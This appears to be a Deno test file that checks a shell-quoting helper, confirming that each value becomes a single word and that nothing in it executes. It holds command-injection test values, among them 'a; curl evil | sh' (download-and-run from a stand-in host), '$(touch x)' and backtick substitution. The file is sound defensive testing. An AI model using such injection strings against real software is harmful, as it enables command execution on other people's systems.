import assert from "node:assert/strict";
import { shellCommand, shellQuote } from "./shell_quote.ts";

for (
  const [word, quoted] of [
    ["/home/ann/w-1", "/home/ann/w-1"],
    ["", "''"],
    ["a b", "'a b'"],
    ["; curl x | sh", "'; curl x | sh'"],
    ["it's", `'it'\\''s'`],
    ["$(id)", "'$(id)'"],
    ["~", "'~'"],
  ] as const
) {
  Deno.test(`shellQuote() makes one word of ${JSON.stringify(word)}`, async () => {
    assert.equal(shellQuote(word), quoted);
    const shell = new Deno.Command("/bin/sh", { args: ["-c", `printf %s ${shellQuote(word)}`] });
    assert.equal(new TextDecoder().decode((await shell.output()).stdout), word);
  });
}

Deno.test("shellCommand() makes every value one word, and nothing that a value says is run", async () => {
  const hostile = [
    "a; curl evil | sh",
    "$(touch x)",
    "`touch x`",
    "a'b\"c",
    "a\nb",
    "\\",
    "",
    "-rf",
    "~",
    "=ls",
    "*",
    "!!",
    "a b\tc",
    "{a,b}",
    "a&b",
    "<(x)",
    "#",
    "é✓",
    "\u202e",
    "\x1b]0;x\x07",
    "a\\nb'`",
  ];
  for (const value of hostile) {
    const line = shellCommand`printf %s ${value}`;
    assert.match(line, /^`[^`\p{Cc}]*`$/u);
    const { stdout, stderr } = await new Deno.Command("bash", { args: ["-c", line.slice(1, -1)], cwd: "/" })
      .output();
    assert.equal(new TextDecoder().decode(stdout), value, line);
    assert.equal(stderr.length, 0, line);
  }
});
